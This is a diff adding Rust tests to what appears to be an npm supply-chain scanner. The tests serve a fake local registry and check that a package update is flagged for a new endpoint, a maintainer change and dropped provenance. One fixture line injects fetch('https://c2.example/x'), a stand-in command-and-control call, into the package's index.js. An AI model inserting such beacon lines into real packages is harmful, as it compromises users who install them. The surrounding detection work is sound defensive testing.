@@ -645,4 +645,135 @@ mod tests {
             Side::Local(_)
         ));
     }
+
+    type Routes = std::sync::Arc<std::sync::Mutex<Vec<(String, Vec<u8>)>>>;
+
+    /// A loopback npm registry answering from `routes` (404 otherwise), one request per
+    /// connection; `routes` gets the base URL so the packument can name tarballs on it.
+    fn registry(routes: impl FnOnce(&str) -> Vec<(String, Vec<u8>)>) -> String {
+        use std::io::{Read, Write};
+        let listener = std::net::TcpListener::bind("127.0.0.1:0").expect("bind");
+        let base = format!("http://{}", listener.local_addr().expect("addr"));
+        let table: Routes = Default::default();
+        *table.lock().expect("lock") = routes(&base);
+        std::thread::spawn(move || {
+            for stream in listener.incoming() {
+                let Ok(mut s) = stream else { continue };
+                let mut buf = Vec::new();
+                let mut chunk = [0u8; 4096];
+                while !buf.windows(4).any(|w| w == b"\r\n\r\n") {
+                    match s.read(&mut chunk) {
+                        Ok(0) | Err(_) => break,
+                        Ok(n) => buf.extend_from_slice(&chunk[..n]),
+                    }
+                }
+                let req = String::from_utf8_lossy(&buf).to_string();
+                let path = req.split_whitespace().nth(1).unwrap_or("/").to_string();
+                let body = table
+                    .lock()
+                    .ok()
+                    .and_then(|t| t.iter().find(|(p, _)| *p == path).map(|(_, b)| b.clone()));
+                let (status, body) = match body {
+                    Some(b) => ("200 OK", b),
+                    None => ("404 Not Found", b"not found".to_vec()),
+                };
+                let head = format!(
+                    "HTTP/1.1 {status}\r\nContent-Length: {}\r\nConnection: close\r\n\r\n",
+                    body.len()
+                );
+                let _ = s.write_all(head.as_bytes());
+                let _ = s.write_all(&body);
+            }
+        });
+        base
+    }
+
+    fn tgz(files: &[(&str, &str)]) -> Vec<u8> {
+        let gz = flate2::write::GzEncoder::new(Vec::new(), flate2::Compression::fast());
+        let mut tar = tar::Builder::new(gz);
+        for (name, text) in files {
+            let mut h = tar::Header::new_gnu();
+            h.set_size(text.len() as u64);
+            h.set_mode(0o644);
+            h.set_cksum();
+            tar.append_data(&mut h, format!("package/{name}"), text.as_bytes())
+                .expect("append");
+        }
+        tar.into_inner().expect("tar").finish().expect("gz")
+    }
+
+    /// `scan name@version`'s comparison: the previous version comes from the registry
+    /// (loopback here, integrity-checked), the new tarball from the caller; maintainers
+    /// and provenance from the full packument. Prereleases are never "previous".
+    #[test]
+    fn previous_version_signals_over_a_loopback_registry() {
+        use sha1::Digest as _;
+        let manifest =
+            |v: &str| format!("{{\"name\":\"tinted\",\"version\":\"{v}\",\"main\":\"index.js\"}}");
+        let old = tgz(&[
+            ("package.json", &manifest("1.0.0")),
+            ("index.js", "module.exports = 1;\n"),
+        ]);
+        let new = tgz(&[
+            ("package.json", &manifest("1.1.0")),
+            (
+                "index.js",
+                "module.exports = 1;\nfetch('https://c2.example/x');\n",
+            ),
+        ]);
+        let dir = tempfile::tempdir().expect("tmp");
+        let new_path = dir.path().join("tinted-1.1.0.tgz");
+        std::fs::write(&new_path, &new).expect("write");
+        let sha1 = hex::encode(sha1::Sha1::digest(&old));
+        let base = registry(|base| {
+            let packument = format!(
+                r#"{{"name":"tinted","dist-tags":{{"latest":"1.1.0"}},"versions":{{
+                  "0.9.0":{{"maintainers":[{{"name":"alice"}}],"dist":{{"tarball":"{base}/t-0.9.0.tgz"}}}},
+                  "1.0.0":{{"maintainers":[{{"name":"alice"}}],"dist":{{"tarball":"{base}/t-1.0.0.tgz","shasum":"{sha1}","attestations":{{"url":"x"}}}}}},
+                  "1.1.0":{{"maintainers":[{{"name":"alice"}}],"_npmUser":{{"name":"mallory"}},"dist":{{"tarball":"{base}/t-1.1.0.tgz"}}}},
+                  "1.0.5-beta.1":{{"dist":{{"tarball":"{base}/none.tgz"}}}}
+                }}}}"#
+            );
+            vec![
+                ("/tinted".to_string(), packument.into_bytes()),
+                ("/t-1.0.0.tgz".to_string(), old.clone()),
+            ]
+        });
+        let events =
+            previous_version_signals(&base, "tinted", "1.1.0", &new_path).expect("signals");
+        let sig: Vec<(String, String)> = events
+            .iter()
+            .filter_map(|e| match &e.kind {
+                airlock_events::EventKind::StaticSignal { signal, detail, .. } => {
+                    Some((signal.clone(), detail.clone()))
+                }
+                _ => None,
+            })
+            .collect();
+        let ids: Vec<&str> = sig.iter().map(|(s, _)| s.as_str()).collect();
+        assert_eq!(
+            ids,
+            [
+                "diff-new-endpoint",
+                "diff-maintainer-change",
+                "diff-provenance-dropped"
+            ],
+            "{sig:?}"
+        );
+        assert!(
+            sig.iter()
+                .all(|(_, d)| d.ends_with("(compared with 1.0.0)")),
+            "{sig:?}"
+        );
+        assert!(sig[1].1.contains("mallory"));
+        assert!(events.iter().all(|e| e.phase == "static"));
+        // A first release has nothing to compare with.
+        let first = dir.path().join("first.tgz");
+        std::fs::write(&first, tgz(&[("package.json", &manifest("0.9.0"))])).expect("write");
+        assert!(previous_version_signals(&base, "tinted", "0.9.0", &first)
+            .expect("none")
+            .is_empty());
+        // An unknown package is an error for the caller to report.
+        assert!(previous_version_signals(&base, "nope", "1.0.0", &first).is_err());
+    }
 }
